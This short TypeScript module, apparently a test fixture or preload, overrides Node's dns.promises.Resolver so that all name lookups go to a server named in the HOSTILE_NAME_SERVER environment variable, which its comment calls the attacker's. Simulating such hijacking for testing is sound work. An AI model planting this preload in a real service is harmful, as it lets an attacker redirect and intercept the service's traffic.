import dns from 'node:dns';

// Loaded into the service before its own code: names are looked up at the name server of the attacker.

const server = process.env.HOSTILE_NAME_SERVER;
if (server) {
  const { Resolver } = dns.promises;
  class Hostile extends Resolver {
    constructor(options?: dns.ResolverOptions) {
      super(options);
      this.setServers([server as string]);
    }
  }
  Object.assign(dns.promises, { Resolver: Hostile });
}
